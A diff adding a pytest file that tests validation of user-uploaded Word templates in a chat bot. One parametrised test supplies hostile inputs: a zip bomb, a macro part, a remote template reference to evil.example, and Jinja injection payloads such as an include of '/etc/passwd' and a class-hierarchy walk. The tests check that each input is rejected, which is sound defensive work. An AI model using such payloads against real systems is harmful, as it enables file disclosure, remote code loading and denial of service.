@@ -1,0 +1,129 @@
+"""An organisation's own Word templates: checked before they are used; what is broken is told, and changes nothing."""
+
+import io
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pytest
+
+from bot.exports import drawing
+from bot.exports.own_templates import samples
+from bot.exports.word import TEMPLATES, check, ours, word
+from dossier.fields import FileRef
+from tests.scenarios.test_exporting import export, words_in
+from tests.team import Team, form_in, said
+
+
+def template(*lines: str) -> bytes:
+    """Give a Word file with these paragraphs."""
+    made, written = docx.Document(), io.BytesIO()
+    for line in lines:
+        made.add_paragraph(line)
+    made.save(written)
+    return written.getvalue()
+
+
+def upload(team: Team, who: str, content: bytes, what: str = "minutes", way: str = "own") -> str:
+    """Upload a template and give what is said of it in the end."""
+    team.platform.files["t"] = content
+    file = FileRef(id="t", name="模板.docx", size=len(content), type="application/zip")
+    form = form_in(team.say(who, "/档案 模板"))
+    answer = said(team.submit(form, who, what=what, way=way, file=[file]))
+    team.app.jobs.work_due()
+    told = [card.text for card in team.told(who) if "模板.docx" in card.text]
+    return told[-1] if told else answer
+
+
+def test_a_template_of_ones_own_is_used_once_it_was_checked(team: Team) -> None:
+    team.say("lilei", "/minutes 需求评审 | 决定: 用微信登录")
+    own = template(
+        "星河软件 · {{ dossier.customer }}", "{{ fields.topic }} {{ labels.decisions }}：{{ fields.decisions }}"
+    )
+    assert "检查通过" in upload(team, "wangfang", own)
+
+    _, content = export(team, "lilei", "#1 word")
+    assert words_in(content).startswith("星河软件 · ABC有限公司\n需求评审 决定：用微信登录")
+
+    upload(team, "wangfang", b"", way="standard")
+    _, content = export(team, "lilei", "#1 word")
+    assert "星河软件" not in words_in(content)
+
+
+def test_the_template_in_use_is_sent_to_begin_with(team: Team) -> None:
+    upload(team, "wangfang", b"", way="send")
+    ((target, name, content),) = team.platform.sent.values()
+    assert (target.account, name) == ("wangfang", "minutes.docx")
+    assert content == ours("minutes")
+
+
+def _bomb() -> bytes:
+    written = io.BytesIO()
+    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
+        packed.writestr("word/document.xml", bytes(80 * 1024 * 1024))
+    return written.getvalue()
+
+
+def _with(name: str, content: bytes) -> bytes:
+    written = io.BytesIO(template("x"))
+    with zipfile.ZipFile(written, "a") as packed:
+        packed.writestr(name, content)
+    return written.getvalue()
+
+
+_REMOTE = (
+    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" '
+    b"TargetMode = 'External'/></Relationships>"
+)
+
+
+@pytest.mark.parametrize(
+    ("content", "told"),
+    [
+        (lambda: b"hello", "这不是 Word 文件"),
+        (lambda: b"PK\x03\x04 cut off", "这不是 Word 文件"),
+        (lambda: _with("x", b"")[:-40], "这不是 Word 文件"),
+        (_bomb, "解压后太大"),
+        (lambda: _with("word/vbaProject.bin", b"x"), "带宏的文件"),
+        (lambda: _with("word/_rels/settings.xml.rels", _REMOTE), "引用了外部文件"),
+        (lambda: template("{{ fields.colour }}"), "colour"),
+        (lambda: template("{{ title"), "模板不能用"),
+        (lambda: template("{% for a in facts %}"), "模板不能用"),
+        (lambda: template("{{ title.__class__.__mro__ }}"), "模板不能用"),
+        (lambda: template("{{ 'x' * 1000000000 }}"), "is not for templates"),
+        (lambda: template("{% for a in range(9) %}x{% endfor %}"), "range"),
+        (lambda: template("{% include '/etc/passwd' %}"), "模板不能用"),
+    ],
+)
+def test_a_broken_or_dangerous_template_is_told_and_not_used(
+    team: Team, content: Callable[[], bytes], told: str
+) -> None:
+    answer = upload(team, "wangfang", content())
+    assert told in answer
+    assert "仍用原来的模板" in answer
+    assert team.read("wangfang", lambda store: store.templates.own("minutes")) is None
+
+
+def test_a_template_that_is_too_large_is_told(team: Team) -> None:
+    assert "不超过 5 MB" in upload(team, "wangfang", bytes(6 * 1024 * 1024))
+
+
+def test_only_a_manager_sets_templates_and_needs_a_file_for_it(team: Team) -> None:
+    assert "管理层" in said(team.say("lilei", "/档案 模板"))
+    form = form_in(team.say("wangfang", "/档案 模板"))
+    assert said(team.submit(form, "wangfang", file=[])) == "file: 请上传一个 .docx 文件。"
+
+
+@pytest.mark.parametrize("name", TEMPLATES)
+def test_our_templates_pass_the_check_themselves(name: str) -> None:
+    check(ours(name), samples(), name)
+    assert "{" not in words_in(word(samples()[name], name))
+
+
+def test_the_templates_in_the_package_are_those_that_are_drawn(tmp_path: Path) -> None:
+    for name, made in drawing.templates().items():
+        made.save(str(tmp_path / "drawn.docx"))
+        with zipfile.ZipFile(tmp_path / "drawn.docx") as drawn, zipfile.ZipFile(io.BytesIO(ours(name))) as packed:
+            for part in ("word/document.xml", "word/styles.xml", "word/footer1.xml", "word/header1.xml"):
+                assert packed.read(part) == drawn.read(part), f"{name}: {part}: python -m bot.exports.drawing"
